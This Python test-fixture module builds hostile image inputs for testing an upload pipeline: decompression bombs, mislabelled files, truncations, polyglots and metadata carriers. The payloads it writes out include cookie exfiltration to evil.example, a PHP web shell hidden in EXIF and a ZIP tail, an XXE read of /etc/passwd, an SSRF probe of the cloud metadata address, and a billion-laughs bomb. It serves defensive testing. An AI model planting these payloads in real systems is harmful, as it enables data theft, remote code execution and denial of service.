"""Hostile inputs made on the spot: bombs, non-rasters, truncations, polyglots, metadata carriers."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

__all__ = [
    "animated_gif",
    "bombs",
    "non_rasters",
    "polyglots",
    "truncations",
    "with_private_metadata",
]


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *extra: bytes) -> bytes:
    ihdr = _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    idat = _png_chunk(b"IDAT", zlib.compress(b"\x00" * 16))
    return b"\x89PNG\r\n\x1a\n" + ihdr + b"".join(extra) + idat + _png_chunk(b"IEND", b"")


def bombs() -> dict[str, bytes]:
    """Tiny files whose headers claim 50,000 x 50,000 pixels, and chunks that inflate to gigabytes."""
    side = 50_000
    jpeg = (
        b"\xff\xd8"
        + b"\xff\xdb\x00\x43\x00"
        + bytes(64)
        + b"\xff\xc0\x00\x11\x08"
        + struct.pack(">HH", side, side)
        + b"\x03\x01\x11\x00\x02\x11\x00\x03\x11\x00"
        + b"\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00"
        + bytes(32)
        + b"\xff\xd9"
    )
    vp8x = struct.pack("<I", 0) + (side - 1).to_bytes(3, "little") + (side - 1).to_bytes(3, "little")
    webp_body = b"WEBP" + b"VP8X" + struct.pack("<I", len(vp8x)) + vp8x
    webp = b"RIFF" + struct.pack("<I", len(webp_body)) + webp_body
    gif = (
        b"GIF89a"
        + struct.pack("<HH", side, side)
        + b"\x00\x00\x00"
        + b","
        + struct.pack("<HHHH", 0, 0, side, side)
        + b"\x00\x02\x02D\x01\x00;"
    )
    ztxt = _png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * (200 << 20), 9))
    iccp = _png_chunk(b"iCCP", b"icc\x00\x00" + zlib.compress(b"\x00" * (200 << 20), 9))
    return {
        "png-50000x50000.png": _png(side, side),
        "jpeg-50000x50000.jpg": jpeg,
        "webp-50000x50000.webp": webp,
        "gif-50000x50000.gif": gif,
        "png-ztxt-inflates-200MB.png": _png(16, 16, ztxt),
        "png-iccp-inflates-200MB.png": _png(16, 16, iccp),
    }


def non_rasters() -> dict[str, bytes]:
    """Content that is not a raster image, whatever its name claims."""
    return {
        "page.jpg": b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>",
        "script.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
        "xxe.svg": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
        "href.svg": b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        b'<image xlink:href="http://169.254.169.254/latest/meta-data/"/></svg>',
        "laughs.svg": b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'.encode()
            for i in range(1, 10)
        )
        + b']><svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>',
        "doc.png": b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
        "archive.gif": b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(40),
        "app.webp": b"window.location='https://evil.example/'+document.cookie;",
        "notes.heic": b"just some text, honestly\n",
        "draw.jpg": b"push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'https://evil.example/x'\n"
        b"pop graphic-context\n",
    }


def _encode(fmt: str, **params: object) -> bytes:
    image = Image.linear_gradient("L").resize((640, 480)).convert("RGB")
    out = io.BytesIO()
    if fmt == "HEIF":
        import pillow_heif

        pillow_heif.register_heif_opener()
    image.save(out, fmt, **params)
    return out.getvalue()


def truncations() -> dict[str, bytes]:
    """Valid images of every decodable format, cut after 60 % of their bytes."""
    made = {
        "half.jpg": _encode("JPEG", quality=90),
        "half-progressive.jpg": _encode("JPEG", quality=90, progressive=True),
        "half.png": _encode("PNG"),
        "half.webp": _encode("WEBP", quality=90),
        "half.avif": _encode("AVIF", quality=80),
        "half.heic": _encode("HEIF", quality=80),
        "half.gif": _encode("GIF"),
    }
    return {name: data[: len(data) * 6 // 10] for name, data in made.items()}


def polyglots() -> dict[str, bytes]:
    """Images that are also something else."""
    jpeg, png, gif = _encode("JPEG"), _encode("PNG"), _encode("GIF")
    zip_tail = b"PK\x03\x04\x14\x00\x00\x00\x00\x00" + bytes(16) + b"evil.php<?php system($_GET['c']); ?>"
    html_tail = b"<html><script>alert('polyglot')</script></html>"
    exif = Image.Exif()
    exif[0x010E] = "<?php system($_GET['c']); ?>"  # ImageDescription
    php = io.BytesIO()
    Image.linear_gradient("L").resize((640, 480)).convert("RGB").save(php, "JPEG", exif=exif.tobytes())
    # A GIF whose header bytes also parse as JavaScript: GIF89a=... /* ... */
    gif_js = gif[:6] + b"\x2f\x2a" + gif[8:] + b"*/=alert('gif');"
    return {
        "jpeg+zip.jpg": jpeg + zip_tail,
        "png+html.png": png + html_tail,
        "gif+js.gif": gif_js,
        "php-in-exif.jpg": php.getvalue(),
    }


def with_private_metadata() -> bytes:
    """A JPEG carrying GPS coordinates, XMP and IPTC."""
    exif = Image.Exif()
    exif[0x010F] = "Secret Camera Co."
    gps = {1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 36.0)}
    exif[0x8825] = gps
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/" photoshop:City="Berlin"/>'
        b"</rdf:RDF></x:xmpmeta>"
    )
    out = io.BytesIO()
    Image.linear_gradient("L").resize((800, 600)).convert("RGB").save(out, "JPEG", exif=exif.tobytes(), xmp=xmp)
    data = out.getvalue()
    iptc = b"\x1c\x02\x5a\x00\x06Berlin"  # IPTC City
    app13 = b"Photoshop 3.0\x008BIM\x04\x04\x00\x00" + struct.pack(">I", len(iptc)) + iptc
    return data[:2] + b"\xff\xed" + struct.pack(">H", len(app13) + 2) + app13 + data[2:]


def animated_gif(frames: int) -> bytes:
    """A GIF with ``frames`` distinct frames (so no encoder merges them); frame 0 is red, the rest blue."""
    palette = [255, 0, 0, 0, 0, 255, 255, 255, 255] + [0] * 759
    images = []
    for i in range(frames):
        frame = Image.new("P", (64, 48), 0 if i == 0 else 1)
        frame.putpalette(palette)
        frame.putpixel((i % 64, (i // 64) % 48), 2)  # a moving white dot keeps every frame distinct
        images.append(frame)
    out = io.BytesIO()
    images[0].save(out, "GIF", save_all=True, append_images=images[1:], duration=20, loop=0, optimize=False)
    return out.getvalue()
